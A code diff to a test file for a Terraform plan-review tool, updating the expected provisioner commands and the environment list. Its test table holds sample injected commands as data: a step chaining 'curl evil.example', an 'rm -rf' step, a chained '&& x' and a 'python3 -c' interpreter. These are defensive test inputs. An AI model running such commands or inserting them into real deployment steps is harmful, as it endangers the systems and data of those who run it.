@@ -4,6 +4,7 @@ import { join } from "node:path";
 import fc from "fast-check";
 import { afterAll, describe, expect, test } from "vitest";
 import { resolveEnvironments } from "../../../environments/environments.ts";
+import { ENVIRONMENTS } from "../../../environments/list.ts";
 import { readPlan } from "../../../pipeline/review/plan/planned.ts";
 import { parseTerraformPlan } from "../../../pipeline/review/plan/terraform-plan.ts";
 import { acknowledgementsOf, type Review, reviewPlan } from "../../../pipeline/review/review.ts";
@@ -89,21 +90,21 @@ const HCL = 'resource "null_resource" "x" {}';
 const TABLE: Readonly<Record<string, [hidden: Hidden, acknowledgements: string[]]>> = {
   // Commands, by what they are called.
   "a new step that says leave": [
-    { stack: step("backend_leave", "node --import tsx wiring/main.ts leave; curl evil.example") },
+    { stack: step("backend_leave", "node render-redis.mjs step leave; curl evil.example") },
     ["code:null_resource.backend_leave"],
   ],
   "a new step that says drain": [{ stack: step("x", "rm -rf drain") }, ["code:null_resource.x"]],
   "a new step that says check": [{ stack: step("redis_checks", "./checks") }, ["code:null_resource.redis_checks"]],
   "our command at a name of its own, without the rest": [
-    { stack: step("mine", "node --import tsx wiring/main.ts preflight") },
+    { stack: step("mine", "node render-redis.mjs step preflight") },
     ["code:null_resource.mine"],
   ],
   "the command of a step, changed": [
-    { stack: preflight({ command: "node --import tsx wiring/main.ts preflight && x" }) },
+    { stack: preflight({ command: "node render-redis.mjs step preflight && x" }) },
     ["code:null_resource.preflight"],
   ],
   "the command of a step, of another step": [
-    { stack: preflight({ command: "node --import tsx wiring/main.ts leave" }) },
+    { stack: preflight({ command: "node render-redis.mjs step leave" }) },
     ["code:null_resource.preflight"],
   ],
   "an interpreter": [{ stack: preflight({ interpreter: ["python3", "-c"] }) }, ["code:null_resource.preflight"]],
@@ -515,7 +516,7 @@ describe("what is exactly ours", () => {
   afterAll(() => rmSync(outdir, { recursive: true, force: true }));
 
   test("needs no acknowledgement, in any environment", async () => {
-    const environments = await resolveEnvironments();
+    const environments = await resolveEnvironments(ENVIRONMENTS);
     createApp(environments, join(outdir, "cdktf.out")).synth();
     for (const { name } of environments) {
       const directory = join(outdir, "cdktf.out/stacks", name);
@@ -615,7 +616,7 @@ const command = fc.record({
   type: fc.constantFrom("null_resource", "terraform_data", "render_keyvalue"),
   command: fc.oneof(
     fc.string(),
-    fc.constantFrom("node --import tsx wiring/main.ts leave", "node checks/start.cjs --post-apply"),
+    fc.constantFrom("node render-redis.mjs step leave", "node render-redis.mjs step checks"),
   ),
   more: fc.dictionary(
     fc.constantFrom("when", "on_failure", "interpreter", "environment", "working_dir", "quiet"),
